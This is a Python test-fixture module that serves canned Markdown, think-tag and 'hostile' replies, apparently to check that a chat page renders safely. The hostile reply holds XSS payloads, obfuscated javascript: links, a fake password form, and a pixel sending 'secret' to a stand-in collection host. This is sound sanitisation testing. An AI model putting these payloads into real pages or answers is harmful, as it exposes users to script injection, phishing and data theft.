"""Answers of a certain kind, to be had by asking: for whoever wants to see what a page makes of them.

A prompt that begins with `Show me: ` and a name is answered with that piece. What is here is only ever said, never
done: the hostile one is what a page must be proof against (faults catalogue, F-05), in one answer.
"""

from __future__ import annotations

from typing import Final

ASKING: Final = "Show me: "
LONGEST: Final = 1024
"""KiB of the long piece at most: more shows nothing new."""

MARKDOWN: Final = """\
# 负载均衡 · Load balancing

Requests go to **several keys**, each with its *own* limits; `429` means ~~never~~ later.
**重点：**中文里的强调也要正确显示。

## A list, and one within

1. Draw a key
   - least busy first
   - never one that rests
2. Send the request
3. Settle

- [x] counted
- [ ] forgotten

## Code

```python
async def carry(call: Call) -> None:
    \"\"\"Perform the steps that `call` asks for.\"\"\"
    step = call.begin(now())
    while isinstance(step, Try):  # until it asks for no more
        step = call.judge(await send(step), now())
```

```sql
SELECT key, count(*) AS calls FROM ledger WHERE at > '2026-01-01' GROUP BY key ORDER BY calls DESC LIMIT 10;
```

| key | state | calls | share |
|:----|:-----:|------:|------:|
| k-01 | ready | 41,203 | 62.5% |
| k-02 | resting | 24,710 | 37.5% |

> A stream that was cut must be seen to be cut.

The rate is \\(r = \\frac{n}{t}\\), and

\\[
P(\\text{all rest}) = \\prod_{i=1}^{n} p_i
\\]

See [the specification](https://www.rfc-editor.org/rfc/rfc9112), or <https://example.org/a?b=c&d=e>.

---

That is all.
"""

HOSTILE: Final = """\
<script>window.__pwned = "script"</script>
<img src="x" onerror="window.__pwned = 'img'">
<svg onload="window.__pwned = 'svg'"><a xlink:href="javascript:window.__pwned='xlink'">svg</a></svg>
<iframe srcdoc="<script>parent.__pwned = 'iframe'</script>"></iframe>
<style>body { display: none }</style>
<form action="https://collect.example/"><input name="password"><button>Sign in again</button></form>
<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = 'math'"></style></mglyph></table></mtext></math>

![remote](https://collect.example/pixel.png?said=secret)
[click me](javascript:window.__pwned='link') [data](data:text/html,<script>window.__pwned='data'</script>)
[vb](vbscript:msgbox) [tab](java\tscript:alert(1)) [entity](&#106;avascript:alert(1)) [ours](/admin) [top](#key)
[title](https://example.org/ "x\\" onmouseover=\\"window.__pwned='title'")
<a href="https://example.org/" onclick="window.__pwned='click'" style="position:fixed;inset:0">over everything</a>

```"><img src=x onerror=window.__pwned='fence'>
</code></pre></textarea><script>window.__pwned = "code"</script>
```

`<b onmouseover=window.__pwned='span'>` </textarea></script><!-- <img src=x onerror="window.__pwned = 'comment'"> -->

| <img src=x onerror="window.__pwned='cell'"> | [x](JaVaScRiPt:alert(1)) |
|---|---|
| a | b |
"""

THOUGHTFUL: Final = """\
<think>
The reader asks for a thought between marks.
It may well hold a < sign, or the word "think".
</think>

The thought stands apart from these words, and `<think>` within them is a word.
"""

_PIECES: Final = {"markdown": MARKDOWN, "hostile": HOSTILE, "thoughts": THOUGHTFUL}


def shown(prompt: str) -> str | None:
    """The piece that `prompt` asks for; `None` where it asks for none that there is.

    Names: markdown, hostile, thoughts (between `<think>` marks), and `long N`: Markdown of N KiB.
    """
    if not prompt.startswith(ASKING):
        return None
    name, _, size = prompt.removeprefix(ASKING).strip().partition(" ")
    if name == "long":
        return _long(int(size)) if size.isdecimal() and len(size) <= 4 else _long(16)
    return _PIECES.get(name)


def _long(kib: int) -> str:
    wanted = max(1, min(kib, LONGEST)) * 1024
    times = wanted // len(MARKDOWN.encode()) + 1
    text = "\n".join(f"{MARKDOWN}\n*{number}*\n" for number in range(1, times + 1))
    return text.encode()[:wanted].decode(errors="ignore")
